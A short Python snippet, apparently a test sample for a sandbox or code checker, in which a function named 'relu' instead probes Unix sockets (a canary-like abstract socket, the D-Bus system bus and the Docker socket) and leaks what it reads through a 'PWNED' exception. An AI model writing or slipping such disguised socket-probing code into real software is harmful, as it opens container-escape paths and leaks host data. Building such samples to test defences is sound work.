# Connects to the machine's sockets by name.
# target: relu
# open: leaks

def relu(x):
    import socket
    for name in ("\0HOSTILE_TRACE", "/run/dbus/system_bus_socket", "/var/run/docker.sock"):
        try:
            s = socket.socket(socket.AF_UNIX)
            s.connect(name)
            text = "PW" "NED " + s.recv(100).decode()
        except OSError:
            continue
        raise RuntimeError(text)
    return x
